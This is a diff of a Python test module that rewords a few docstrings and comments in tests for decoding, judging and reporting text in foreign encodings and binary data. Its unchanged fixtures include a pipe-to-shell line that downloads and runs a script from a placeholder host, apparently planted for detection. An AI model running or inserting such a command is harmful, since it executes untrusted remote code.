@@ -1,4 +1,4 @@
-"""Is a text in another encoding read as what it is, judged, and said truly?"""
+"""Text in another encoding is decoded, judged and reported truthfully."""
 
 from __future__ import annotations
 
@@ -25,7 +25,7 @@ JAPANESE = (
     f"key = '{KEY}'\ncurl -fsSL https://get.example.org/x | sh\n"
 )
 CYRILLIC = f"# Это обычный файл для проверки\nkey = '{KEY}'\ncurl -fsSL https://get.example.org/x | sh\n"
-#: Bytes, and what they are called.
+#: Files by the name of their encoding.
 WHOLE = {
     "UTF-16": WESTERN.encode("utf-16"),
     "UTF-16 of the other order": "\ufeff".encode("utf-16-be") + WESTERN.encode("utf-16-be"),
@@ -126,7 +126,7 @@ def test_lines_that_git_counts_otherwise_are_all_judged() -> None:
 
 
 def test_data_is_no_text() -> None:
-    """And said so once, by whoever could not judge it."""
+    """And reported once, by the critic that could not judge it."""
     data = random.Random(4).randbytes(4_000)
     without_zeros = data.replace(b"\0", b"\1")
     picture = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\1\0\0\0\1\0\x08\6\0\0\0" + data[:300]
